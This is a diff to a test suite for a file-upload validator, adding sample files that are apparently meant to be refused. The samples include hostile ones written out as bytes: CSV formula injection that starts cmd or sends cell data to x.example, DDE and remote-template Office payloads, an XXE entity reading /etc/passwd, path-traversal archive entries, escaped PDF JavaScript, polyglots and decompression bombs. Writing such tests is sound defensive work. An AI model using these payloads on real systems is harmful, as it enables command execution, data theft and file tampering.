@@ -33,6 +33,9 @@ GOOD = {
     "list excel.csv": "\ufeffa\tb\r\n".encode("utf-16-le"),
     "merkbilder 工場.txt": "\ufeff工場".encode(),
     "note.txt": b"One line",
+    "phones.csv": b'name;phone;change\na;+84 90 123 45 67;-5,3\n@b;"=1+1";- yes | no!\n- please call (me)\n',
+    "marked.pdf": files.pack_in_pdf(bytes(1_000_000), b"/Type /ObjStm " * 200),  # one stream, however often it is named
+    "packed.pdf": files.pack_in_pdf(b"<< /Type /Page /Note (about JavaScript and #23) >>"),
 }
 
 
@@ -107,6 +110,7 @@ BAD: list[tuple[str, str, bytes, str]] = [
     ("locked entries", "a.docx", files.make_locked_zip(), "ENCRYPTED"),
     ("docx cut off", "a.docx", make_office()[:-30], "CORRUPT"),
     ("docx damaged", "a.docx", make_office(WORD, {"word/x": NOISE}).replace(NOISE[:9], b"different"), "CORRUPT"),
+    ("packed by nothing there is", "a.docx", files.spoil_lzma(make_office()), "CORRUPT"),
     ("one huge entry", "a.xlsx", make_office(SHEET, {"xl/a.xml": bytes(60_000_000)}), "ZIP_BOMB"),
     ("thousands of entries", "a.xlsx", make_zip({f"{n}": b"" for n in range(5_001)}), "ZIP_BOMB"),
     ("says thousands of entries", "a.xlsx", files.make_liar(60_000), "ZIP_BOMB"),
@@ -122,6 +126,56 @@ BAD: list[tuple[str, str, bytes, str]] = [
     ("heic flood", "a.heic", files.make_heic(50_000, 50_000), "TOO_MANY_PIXELS"),
     ("heic without size", "a.heic", files.make_heic(sized=False), "CORRUPT"),
     ("heic cut off", "a.heic", files.make_heic(cut=10), "CORRUPT"),
+    ("pdf with a script, spelled with escapes", "a.pdf", make_pdf(b"<< /S /J#61v#61Script >>"), "ACTIVE_CONTENT"),
+    ("pdf with a script in a packed object", "a.pdf", files.pack_in_pdf(b"<< /S /JavaScript /JS (x) >>"),
+        "ACTIVE_CONTENT"),
+    ("pdf with a film", "a.pdf", make_pdf(b"<< /Subtype /RichMedia >>"), "ACTIVE_CONTENT"),
+    ("pdf with a file inside", "a.pdf", make_pdf(b"<< /Names << /EmbeddedFiles 4 0 R >> >>"), "EMBEDDED_FILES"),
+    ("pdf with a file in a packed object", "a.pdf", files.pack_in_pdf(b"<< /Type /EmbeddedFile >>"), "EMBEDDED_FILES"),
+    ("pdf with a bomb", "a.pdf", files.pack_in_pdf(bytes(30_000_000)), "ZIP_BOMB"),
+    ("pdf with many small bombs", "a.pdf",
+        make_pdf(files.pack_in_pdf(bytes(3_900_000)) * 20), "ZIP_BOMB"),
+    ("pdf that is an archive too", "a.pdf", make_pdf(make_zip({"a.exe": b"MZ"})[:-22]) + make_zip({"a": b"MZ"}),
+        "EMBEDDED_FILES"),
+    ("picture that is an archive too", "a.jpg", files.make_jpeg() + make_zip({"x.class": b"x"}), "EMBEDDED_FILES"),
+    ("png that is a document too", "a.png", files.make_png() + make_office(MACRO), "EMBEDDED_FILES"),
+    ("list that is an archive too", "a.csv", b"a;b\n" + make_zip({"a": b"a"}), "EMBEDDED_FILES"),
+    ("a web page as a picture", "a.jpg", b"<html><script>alert(1)</script></html>", "TYPE_NOT_ALLOWED"),
+    ("a drawing as a picture", "a.png", b"<?xml version='1.0'?><svg><script>1</script></svg>", "TYPE_NOT_ALLOWED"),
+    ("a drawing behind a comment", "a.txt", b"<!-- x --><svg onload='x'/>", "TYPE_NOT_ALLOWED"),
+    ("a web page far behind", "a.txt", b" " * 9_000 + b"<html>", "TYPE_NOT_ALLOWED"),
+    ("a web page in wide letters", "a.txt", "\ufeff<html><script>".encode("utf-16-le"), "TYPE_NOT_ALLOWED"),
+    ("a page with its pictures", "a.txt", b"MIME-Version: 1.0\nContent-Type: multipart/related", "TYPE_NOT_ALLOWED"),
+    ("a list that starts a program", "a.csv", b"name;x\na;=cmd|' /C calc'!A0\n", "ACTIVE_CONTENT"),
+    ("a list that calls home", "a.csv", b'a,"=HYPERLINK(""http://x.example?""&A1,""x"")"\n', "ACTIVE_CONTENT"),
+    ("a list that starts at once", "a.csv", b"@SUM(1+1)*cmd|' /C calc'!A0", "ACTIVE_CONTENT"),
+    ("a list that fetches, in wide letters", "a.csv", "\ufeff+WEBSERVICE(A1)".encode("utf-16-le"), "ACTIVE_CONTENT"),
+    ("a list that starts a program over a border", "a.csv",
+        b"x," * ((1 << 19) - 5) + b",=cmd|' /C calc'!A0", "ACTIVE_CONTENT"),
+    ("a template from elsewhere", "a.docx", make_office(WORD, {
+        "word/_rels/settings.xml.rels": files.make_relations("attachedTemplate", "http://x.example/t.dotm")}),
+        "ACTIVE_CONTENT"),
+    ("an object from elsewhere", "a.docx", make_office(WORD, {
+        "word/_rels/document.xml.rels": files.make_relations("oleObject", "http://x.example/x.html!")}),
+        "ACTIVE_CONTENT"),
+    ("a field that starts a program", "a.docx", make_office(WORD, {
+        "word/footer1.xml": b"<w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe </w:instrText>"}), "ACTIVE_CONTENT"),
+    ("a sheet that starts a program", "a.xlsx", make_office(SHEET, {
+        "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}),
+        "ACTIVE_CONTENT"),
+    ("a part with entities", "a.docx", make_office(WORD, {
+        "word/styles.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'}),
+        "CORRUPT"),
+    ("a part with another file's text", "a.xlsx", make_office(SHEET, {
+        "xl/styles.xml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}), "CORRUPT"),
+    ("parts outside of the archive", "a.docx", make_office(WORD, {"../../../etc/cron.d/x": b"x"}), "CORRUPT"),
+    ("parts outside, spelled the other way", "a.docx", make_office(WORD, {"..\\..\\x.xml": b"x"}), "CORRUPT"),
+    ("parts at the root", "a.docx", make_office(WORD, {"/etc/passwd": b"x"}), "CORRUPT"),
+    ("a program of the other kind inside", "a.pptx", make_office(SLIDES, {"ppt/media/a.bin": b"\x7fELF"}),
+        "EMBEDDED_FILES"),
+    ("a script inside", "a.docx", make_office(WORD, {"word/media/a.png": b"#!/bin/sh"}), "EMBEDDED_FILES"),
+    ("png changed", "a.png", files.make_png_with_bad_data(), "CORRUPT"),
+    ("png with a lie about its parts", "a.png", files.make_png()[:33] + b"\xff\xff\xff\xffIDAT", "CORRUPT"),
     ("a film", "a.heic", files.make_heic(brand=b"isom"), "TYPE_NOT_ALLOWED"),
 ]  # fmt: skip
 
@@ -133,8 +187,8 @@ def test_bad_files_are_refused_with_the_reason(name: str, content: bytes, code: 
     assert refused.value.code == code
 
 
-def test_every_reason_but_change_has_a_case_and_words() -> None:
-    assert {code for *_, code in BAD} | {"CHANGED"} == set(WORDS)
+def test_every_reason_that_the_content_alone_tells_has_a_case_and_words() -> None:
+    assert {code for *_, code in BAD} | {"CHANGED", "VIRUS", "TOO_LARGE_TO_SCAN"} == set(WORDS)
     assert all(20 < len(words) < 140 for words in WORDS.values())
 
 
